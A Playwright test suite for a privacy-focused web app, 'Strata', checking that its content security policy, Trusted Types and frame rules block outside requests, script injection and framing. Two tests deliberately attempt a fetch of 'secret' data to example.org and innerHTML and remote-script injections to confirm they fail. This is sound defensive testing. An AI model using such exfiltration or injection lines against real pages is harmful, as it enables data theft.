import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Request } from '@playwright/test';
import { App, expect, test } from './fixtures.ts';
import { StartedServer, startPlainHost } from './server.ts';
import { OWN_FOLDER } from './session-folders.ts';

test('a whole visit asks no other origin for anything', async ({ app, page }) => {
  const origins = new Set<string>();
  const noteOrigin = (request: Request) => origins.add(new URL(request.url()).origin);
  page.context().on('request', noteOrigin);
  await app.imports.importFolder(OWN_FOLDER.path);
  for (const screen of ['Search', 'Timeline', 'Sessions', 'Memory', 'Storage', 'Settings'] as const) {
    await app.shell.goTo(screen);
  }
  await app.shell.waitUntilOfflineReady();
  await app.shell.reload();
  page.context().off('request', noteOrigin);
  expect([...origins]).toEqual([new URL(app.url).origin]);
});

test('the page says what it reached and what the policy allows', async ({ app }) => {
  await app.shell.goTo('Storage');
  await expect(app.storage.privacy()).toContainText('has reached its own address only');
  await app.storage.privacy().getByText('The policy in force').click();
  await expect(app.storage.privacy()).toContainText("default-src 'none'");
});

test('the browser refuses another origin, to the page and to the worker that holds the data', async ({
  app,
  trespasses,
}) => {
  const { page } = app;
  trespasses.provoked.push(/example\.org/);
  const tryToSend = () => fetch('https://example.org/?q=secret').then(String, (error: Error) => error.name);
  expect(await page.evaluate(tryToSend)).toBe('TypeError');
  const [worker] = page.workers();
  expect(await worker?.evaluate(tryToSend)).toBe('TypeError');
  await expect
    .poll(() => trespasses.policyViolations.filter((text) => text.includes('example.org')).length)
    .toBeGreaterThanOrEqual(2);
});

test('no text becomes script or markup', async ({ app: { page }, trespasses }) => {
  trespasses.provoked.push(/'Trusted(HTML|ScriptURL)' assignment/, /^require-trusted-types-for /);
  const attempts = await page.evaluate(() => {
    const tryTo = (act: () => void) => {
      try {
        act();
        return 'allowed';
      } catch (error) {
        return (error as Error).name;
      }
    };
    return [
      tryTo(() => {
        document.createElement('div').innerHTML = '<img src=x>';
      }),
      tryTo(() => {
        document.createElement('script').src = 'https://example.org/x.js';
      }),
      tryTo(() => new Worker('https://example.org/x.js')),
    ];
  });
  expect(attempts).toEqual(['TypeError', 'TypeError', 'TypeError']);
  for (const sink of ['Element innerHTML', 'HTMLScriptElement src', 'Worker constructor']) {
    await expect.poll(() => trespasses.policyViolations.join()).toContain(`trusted-types-sink ${sink}`);
  }
});

test('every response carries the policy, and nobody may frame the page', async ({ request }) => {
  const response = await request.get('./');
  const policy = response.headers()['content-security-policy'];
  expect(policy).toContain("connect-src 'self'");
  expect(policy).toContain("frame-ancestors 'none'");
  expect(await response.text()).toMatch(/<head>\s*<meta http-equiv="Content-Security-Policy"/);
});

test('in some folder of a plain static host everything works, and the policy comes with the service worker', async ({
  page,
  ownOrigin,
}) => {
  const { server, url } = await startPlainHost('/some/sub/path/');
  const app = new App(page, ownOrigin(url));
  await app.shell.open();
  await app.imports.importFolder(OWN_FOLDER.path);
  await app.shell.waitUntilOfflineReady();
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
  const response = await page.reload();
  expect(response?.fromServiceWorker()).toBe(true);
  expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
  await app.shell.waitUntilReady();
  await app.search.find('perigean');
  await expect(app.search.hits).toHaveCount(1);
});

test('the app can be installed', async ({ app, page }) => {
  await app.shell.waitUntilReady();
  const session = await page.context().newCDPSession(page);
  const { errors } = await session.send('Page.getAppManifest');
  expect(errors).toEqual([]);
  const { installabilityErrors } = await session.send('Page.getInstallabilityErrors');
  expect(installabilityErrors).toEqual([]);
});

test('a page of another origin frames Strata only while that origin is listed', async ({ page, trespasses }) => {
  trespasses.provoked.push(/frame-ancestors/);
  const folder = mkdtempSync(join(tmpdir(), 'strata-framing-'));
  const { server: host, url } = await startPlainHost('/', folder);
  const heading = page.frameLocator('iframe').getByRole('heading', { level: 1 });

  const listing = await StartedServer.start(5401, ['--allow-frame', url]);
  writeFileSync(join(folder, 'index.html'), `<iframe src="${listing.url}"></iframe>`);
  await page.goto(url);
  await expect(heading).toHaveText('Bring in your sessions');
  await listing.kill();

  const closed = await StartedServer.start(Number(new URL(listing.url).port));
  expect(closed.url).toBe(listing.url);
  await page.goto(url);
  await expect.poll(() => trespasses.policyViolations.join()).toContain('frame-ancestors');
  await expect(heading).toBeHidden();
  await closed.kill();
  host.close();
  rmSync(folder, { recursive: true });
});
